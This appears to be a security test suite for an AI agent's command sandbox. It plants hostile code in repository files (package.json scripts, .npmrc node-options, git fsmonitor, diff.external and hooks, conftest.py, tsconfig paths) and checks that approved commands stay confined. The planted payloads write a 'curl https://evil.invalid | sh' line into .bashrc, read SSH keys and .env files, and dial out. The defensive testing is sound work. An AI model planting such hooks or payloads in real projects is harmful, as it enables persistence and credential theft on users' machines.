/**
 * Escape suite, the repository's own files: the executor does nothing but run the command its step was
 * approved for (`npm test`, `node --test`, `git diff`, `git commit`, `npx tsc`, `python3 -m pytest`), and
 * the repository turns it into code — a package.json script, a test file, `.npmrc` node-options,
 * `.git/config` (core.fsmonitor, diff.external, core.hooksPath), a `.husky` hook, a conftest.py, a
 * tsconfig.json. That code gets no further than the step's authority; the approved work itself still runs.
 */
import { strict as assert } from 'node:assert';
import { execFileSync } from 'node:child_process';
import { appendFileSync, chmodSync, existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { seen, sh, replace } from '../sandbox/cliRun';
import { assertNoLeak, assertNone, outsideScope, story, useEscapeSuite, type Outcome } from '../sandbox/escapeCase';
import { tcpListener, type Listener } from '../sandbox/observers';
import { dialTcp, program, py, read, write } from '../sandbox/payloads';
import { TS_OPTIONS, type Scene } from '../sandbox/scene';

/** What every hostile file tries: write home and neighbour, write outside the scope, read secrets, dial out. */
function hostile(s: Scene, port: number, label: string): string {
  return program(
    write(join(s.home, '.bashrc'), `\n# ${label}\ncurl https://evil.invalid | sh\n`, true),
    write(join(s.neighbour, 'victim.txt'), `${label}\n`),
    write(join(s.ws, 'README.md'), `# ${label}\n`),
    read(join(s.home, '.ssh/id_rsa')),
    read(join(s.ws, '.env')),
    dialTcp('127.0.0.1', port),
  );
}

function put(s: Scene, rel: string, content: string, mode?: number): void {
  writeFileSync(join(s.ws, rel), content);
  if (mode !== undefined) chmodSync(join(s.ws, rel), mode);
}

function assertConfined(o: Outcome, tcp: Listener, scope: string[]): void {
  assertNone(o.outside, 'nothing outside the workspace changed', o);
  assertNone(outsideScope(o, scope), `nothing in the workspace changed outside ${scope.join(', ') || 'nothing'}`, o);
  assertNoLeak(o, 'no canary secret reached the model or a file');
  assert.equal(tcp.hits(), 0, `no connection reached the host${story(o)}`);
}

describe("escape suite: the repository's own files", function () {
  this.timeout(90_000);
  const suite = useEscapeSuite();
  let tcp: Listener;
  beforeEach(async () => {
    tcp = await suite.listen(tcpListener());
  });

  it('a package.json test script runs confined, under the executor and under the evidence check; npm test still passes', async () => {
    const s = suite.scene((sc) => {
      put(sc, 'package.json', `${JSON.stringify({ name: 'app', private: true, scripts: { test: 'node --test && node scripts/ci-report.js' } }, null, 2)}\n`);
      put(sc, 'scripts/ci-report.js', hostile(sc, tcp.address.port ?? 0, 'package.json script'));
    });
    const o = await suite.run(s, {
      steps: [
        {
          id: 's1',
          authority: { edit: [], commands: ['npm test'] },
          turns: [[sh('legit', 'npm test')]],
          evidence: [{ kind: 'command', command: 'npm test', expectExitCode: 0, expectOutputIncludes: 'pass 1' }],
        },
      ],
    });
    assertConfined(o, tcp, []);
    assert.match(seen(o.mission, 'legit'), /^exit code: 0[\s\S]*pass 1/m, `npm test passed${story(o)}`);
  });

  it('the evidence check alone (no executor command) runs the hostile script confined', async () => {
    const s = suite.scene((sc) => {
      put(sc, 'package.json', `${JSON.stringify({ name: 'app', private: true, scripts: { test: 'node scripts/ci-report.js && node --test' } }, null, 2)}\n`);
      put(sc, 'scripts/ci-report.js', hostile(sc, tcp.address.port ?? 0, 'evidence check'));
    });
    const o = await suite.run(s, {
      steps: [
        { id: 's1', authority: { edit: [], commands: ['npm test'] }, turns: [], evidence: [{ kind: 'command', command: 'npm test', expectExitCode: 0 }] },
      ],
    });
    assertConfined(o, tcp, []);
    assert.deepEqual(o.mission.report?.succeeded, ['s1'], `the evidence check passed${story(o)}`);
  });

  it('a test file runs confined; node --test still passes', async () => {
    const s = suite.scene((sc) => {
      put(sc, 'test/setup.test.js', `${hostile(sc, tcp.address.port ?? 0, 'test file')}\nrequire('node:test')('setup', () => {});\n`);
    });
    const o = await suite.run(s, { steps: [{ id: 's1', authority: { edit: [], commands: ['node --test'] }, turns: [[sh('legit', 'node --test')]] }] });
    assertConfined(o, tcp, []);
    assert.match(seen(o.mission, 'legit'), /^exit code: 0[\s\S]*pass 2/m, `the tests passed${story(o)}`);
  });

  it('.npmrc node-options (--require) runs confined; npm test still passes', async () => {
    const s = suite.scene((sc) => {
      put(sc, '.npmrc', 'node-options=--require ./scripts/preload.js\n');
      put(sc, 'scripts/preload.js', hostile(sc, tcp.address.port ?? 0, '.npmrc node-options'));
    });
    const o = await suite.run(s, { steps: [{ id: 's1', authority: { edit: [], commands: ['npm test'] }, turns: [[sh('legit', 'npm test')]] }] });
    assertConfined(o, tcp, []);
    assert.match(seen(o.mission, 'legit'), /^exit code: 0[\s\S]*pass 1/m, `npm test passed${story(o)}`);
  });

  it('.git/config core.fsmonitor and diff.external run confined; git status and git diff still work', async () => {
    const s = suite.scene((sc) => {
      put(sc, 'scripts/fsmonitor.js', hostile(sc, tcp.address.port ?? 0, 'core.fsmonitor'));
      put(sc, 'scripts/extdiff.js', hostile(sc, tcp.address.port ?? 0, 'diff.external'));
      appendFileSync(
        join(sc.ws, '.git/config'),
        `[core]\n\tfsmonitor = node ${join(sc.ws, 'scripts/fsmonitor.js')}\n[diff]\n\texternal = node ${join(sc.ws, 'scripts/extdiff.js')}\n`,
      );
    });
    const o = await suite.run(s, {
      steps: [
        {
          id: 's1',
          authority: { edit: ['src/**'], commands: ['git status', 'git diff *', 'git diff'] },
          turns: [[replace('e', 'src/math.js', 'a + b', 'b + a')], [sh('status', 'git status'), sh('diff', 'git diff'), sh('plain', 'git diff --no-ext-diff')]],
        },
      ],
    });
    assertConfined(o, tcp, ['src/**']);
    assert.match(seen(o.mission, 'status'), /^exit code: 0[\s\S]*modified:\s+src\/math\.js/m, `git status works${story(o)}`);
    assert.match(seen(o.mission, 'plain'), /\+exports\.add = \(a, b\) => b \+ a;/, `git diff works${story(o)}`);
  });

  it('a .husky hook (core.hooksPath) and a .git/hooks hook run confined; the granted git commit is still made', async () => {
    const s = suite.scene((sc) => {
      put(sc, 'scripts/hook.js', hostile(sc, tcp.address.port ?? 0, 'git hook'));
      execFileSync('mkdir', ['-p', join(sc.ws, '.husky')]);
      put(sc, '.husky/pre-commit', `#!/bin/sh\nnode ${join(sc.ws, 'scripts/hook.js')}\n`, 0o755);
      appendFileSync(join(sc.ws, '.git/config'), '[core]\n\thooksPath = .husky\n');
    });
    const o = await suite.run(s, {
      steps: [
        {
          id: 's1',
          authority: { edit: ['src/**'], commands: ['git add *', 'git commit *'] },
          turns: [[replace('e', 'src/math.js', 'a + b', 'b + a')], [sh('add', 'git add src/math.js'), sh('commit', 'git commit -q -m "Swap operands"')]],
        },
      ],
    });
    assertNone(o.outside, 'nothing outside the workspace changed', o);
    assertNone(
      outsideScope(o, ['src/**', '.git/**']).concat(o.inside.filter((c) => /^\.git\/(hooks|config)/.test(c.path))),
      'nothing changed outside src/ and .git (hooks and config included)',
      o,
    );
    assertNoLeak(o, 'no canary secret reached the model or a file');
    assert.equal(tcp.hits(), 0, `no connection reached the host${story(o)}`);
    assert.equal(execFileSync('git', ['log', '-1', '--format=%s'], { cwd: s.ws, encoding: 'utf8' }).trim(), 'Swap operands', `the commit was made${story(o)}`);
  });

  it('a conftest.py runs confined; python3 -m pytest still passes', async () => {
    const s = suite.scene((sc) => {
      appendFileSync(
        join(sc.ws, 'tests/conftest.py'),
        `\n${py.program(
          py.write(join(sc.home, '.bashrc'), '\ncurl https://evil.invalid | sh\n'),
          py.write(join(sc.neighbour, 'victim.txt'), 'conftest\n'),
          py.write(join(sc.ws, 'README.md'), '# conftest\n'),
          py.read(join(sc.home, '.ssh/id_rsa')),
          py.read(join(sc.ws, '.env')),
          py.dial('127.0.0.1', tcp.address.port ?? 0),
        )}`,
      );
    });
    const o = await suite.run(s, {
      steps: [
        { id: 's1', authority: { edit: [], commands: ['python3 -m pytest *'] }, turns: [[sh('legit', 'python3 -m pytest -q -s -p no:cacheprovider tests')]] },
      ],
    });
    assertConfined(o, tcp, ['**/__pycache__', '**/__pycache__/**']);
    assert.match(seen(o.mission, 'legit'), /^exit code: 0[\s\S]*2 passed/m, `pytest passed${story(o)}`);
  });

  it("tsconfig.json cannot put tsBuildInfoFile or outDir outside the workspace, nor compile a neighbour's file into it", async () => {
    const s = suite.scene((sc) => {
      writeFileSync(join(sc.neighbour, 'settings.ts'), `export const token = '${sc.canaries.neighbour}';\n`);
      put(
        sc,
        'tsconfig.json',
        `${JSON.stringify(
          {
            compilerOptions: { ...TS_OPTIONS, outDir: join(sc.neighbour, 'out'), incremental: true, tsBuildInfoFile: join(sc.home, '.bashrc') },
            include: ['src/**/*.ts'],
          },
          null,
          2,
        )}\n`,
      );
      put(
        sc,
        'tsconfig.steal.json',
        `${JSON.stringify({ compilerOptions: { ...TS_OPTIONS, rootDir: '..' }, files: ['src/lib.d.ts', 'src/greet.ts', join(sc.neighbour, 'settings.ts')] }, null, 2)}\n`,
      );
    });
    const o = await suite.run(s, {
      steps: [
        {
          id: 's1',
          authority: { edit: ['dist/**'], commands: ['npx tsc', 'npx tsc -p tsconfig.steal.json'] },
          turns: [[sh('tsc', 'npx tsc'), sh('steal', 'npx tsc -p tsconfig.steal.json')]],
        },
      ],
    });
    assertNone(o.outside, 'nothing outside the workspace changed', o);
    assertNone(outsideScope(o, ['dist/**']), 'nothing changed outside dist/', o);
    assertNoLeak(o, "the neighbour's file did not come into the workspace or the model", ['neighbour']);
  });

  it('a plain npx tsc compiles into its scope', async () => {
    const s = suite.scene();
    const o = await suite.run(s, {
      steps: [
        {
          id: 's1',
          authority: { edit: ['dist/**'], commands: ['npx tsc'] },
          turns: [[sh('tsc', 'npx tsc')]],
          evidence: [{ kind: 'files_exist', paths: ['dist/greet.js'] }],
        },
      ],
    });
    assert.match(seen(o.mission, 'tsc'), /^exit code: 0/m, `tsc succeeded${story(o)}`);
    assert.ok(existsSync(join(s.ws, 'dist/greet.js')), `dist/greet.js was emitted${story(o)}`);
    assert.deepEqual(o.mission.report?.succeeded, ['s1'], story(o));
  });
});
